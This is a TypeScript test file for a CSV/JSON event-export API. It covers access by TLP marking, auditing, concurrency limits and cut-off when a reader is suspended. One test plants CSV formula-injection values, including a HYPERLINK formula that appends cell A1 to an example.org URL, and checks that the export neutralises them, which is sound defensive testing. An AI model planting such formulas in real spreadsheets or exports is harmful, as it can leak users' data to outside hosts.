import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import { parse } from 'csv-parse/sync';
import * as z from 'zod';
import { auditEntry } from '@/db/model/access/account';
import { event } from '@/db/model/event/event';
import type { Person } from '../../../support/people';
import { expect, type Team, test } from '../team';

const exported = z.strictObject({ items: z.array(event) });
const entries = z.looseObject({ items: z.array(auditEntry) });
const sheet = '/api/events/export?format=csv';
const records = '/api/events/export?format=json';

function rowsOf(body: unknown): Record<string, string>[] {
  return parse(String(body), { columns: true, bom: true, record_delimiter: '\r\n' });
}

async function listExports({ admin }: Team) {
  const { items } = entries.parse((await admin.api.get('/api/audit?type=account')).body);
  return items
    .filter(({ what }) => what === 'exported')
    .map(({ by, details }) => ({ by: by.id, ...details }));
}

/** Logs more than socket buffers hold, so that an export has to wait for its reader. */
async function logManyEvents(team: Team, author: Person): Promise<void> {
  const summary = 'A long report. '.repeat(1_300);
  const logging = Array.from({ length: 450 }, (_, n) =>
    team.log(author, `Report ${n}`, { summary, tlp: 'green' }),
  );
  await Promise.all(logging);
}

/** Starts an export without reading its body. */
async function startExport(team: Team, { cookie }: Person): Promise<IncomingMessage> {
  const request = get(new URL(records, team.url), { headers: { cookie }, agent: false });
  const [answer]: IncomingMessage[] = await once(request, 'response');
  if (!answer) throw new Error('There was no answer');
  return answer;
}

test('an export contains each matching event that its reader may see once, with its marking', async ({
  team,
}) => {
  const { admin } = team;
  const reader = await team.createMember({ role: 'viewer', clearance: 'green' });
  for (let n = 0; n < 230; n += 1) await team.log(admin, `Report ${n}`, { tlp: n % 2 ? 'green' : 'clear' });
  await team.log(admin, 'Report that is hidden', { tlp: 'amber' });
  await team.log(admin, 'Report for others', { tlp: 'red', recipients: [admin.id] });
  await team.log(admin, 'Report by name', { tlp: 'red', recipients: [admin.id, reader.id] });
  await team.log(admin, 'Of another country', {
    tlp: 'green',
    targets: [{ country: 'CN', type: 'embassy' }],
  });

  const { status, headers, body } = await reader.api.get(`${records}&targeted=RU`);
  expect(status).toBe(200);
  expect(headers.get('content-disposition')).toMatch(
    /^attachment; filename="chancery-\d{4}-\d\d-\d\d\.json"$/,
  );
  const { items } = exported.parse(body);
  expect(new Set(items.map(({ id }) => id)).size).toBe(231);
  expect(items.length).toBe(231);
  expect(items.map(({ title }) => title)).toContain('Report by name');

  const rows = rowsOf((await reader.api.get(`${sheet}&targeted=RU`)).body);
  expect(rows.map(({ ref }) => ref)).toEqual(items.map(({ ref }) => ref));
  expect(rows.map(({ marking }) => marking)).toEqual(items.map(({ tlp }) => `TLP:${tlp.toUpperCase()}`));
  expect(JSON.stringify([body, rows])).not.toMatch(/hidden|for others|Of another/);
  expect(rowsOf((await reader.api.get(`${sheet}&targeted=VA`)).body)).toEqual([]);
  expect((await reader.api.get(`${records}&targeted=VA`)).body).toEqual({ items: [] });
});

test('cells of an exported sheet are text, never formulas', async ({ team }) => {
  const { admin } = team;
  const title = '=HYPERLINK("https://example.org/?"&A1,"Посольство, "" kapı")';
  await team.log(admin, title, {
    summary: '+1\n@SUM(1)',
    location: { country: 'AF', city: '-2+3', place: '\tcmd' },
    tags: ['@x'],
  });
  const { body } = await admin.api.get(sheet);
  const [row, ...others] = rowsOf(body);
  expect(others).toEqual([]);
  expect(Object.values(row ?? {}).filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual([]);
  expect(row).toMatchObject({ title: `'${title}`, summary: "'+1\n'@SUM(1)", city: "'-2+3", tags: "'@x" });
});

test('each export by a person or a key is audited with its filter; refused requests are not', async ({
  team,
}) => {
  const reader = await team.createMember({ role: 'viewer', clearance: 'green' });
  const { api: program, id } = await team.createKey(reader);
  expect((await reader.api.get(`${sheet}&targeted=RU,PK&q=letter`)).status).toBe(200);
  expect((await program.get(records)).status).toBe(200);
  for (const path of ['/api/events/export', `${records}&targeted=XX`, `${records}&limit=5`])
    expect((await reader.api.get(path)).status, path).toBe(422);
  expect((await reader.api.call('HEAD', records)).status).toBe(405);
  const nobody = await fetch(new URL(records, team.url));
  expect(nobody.status).toBe(401);
  expect(await listExports(team)).toEqual([
    { by: id, format: 'json', filter: null },
    { by: reader.id, format: 'csv', filter: 'targeted=RU%2CPK&q=letter' },
  ]);
});

test('a reader has one export at a time, and may start another after an abort', async ({ team }) => {
  await logManyEvents(team, team.admin);
  const answer = await startExport(team, team.admin);
  const second = await team.admin.api.get(records);
  expect(second).toMatchObject({ status: 429, body: { detail: expect.stringContaining('in progress') } });
  expect((await (await team.createMember()).api.get(records)).status).toBe(200);
  answer.destroy();
  await expect.poll(async () => (await team.admin.api.get(records)).status).toBe(200);
});

test('an export is cut off when its reader’s rights end', async ({ team }) => {
  await logManyEvents(team, team.admin);
  const reader = await team.createMember({ role: 'viewer', clearance: 'green' });
  const answer = await startExport(team, reader);
  expect((await team.updateRights(reader, { isSuspended: true })).status).toBe(200);
  let bytes = 0;
  answer.on('data', (chunk: Buffer) => {
    bytes += chunk.length;
  });
  const ended = await once(answer, 'end').then(
    () => 'complete',
    () => 'cut',
  );
  expect(ended).toBe('cut');
  expect(bytes).toBeLessThan(450 * 19_000);
});
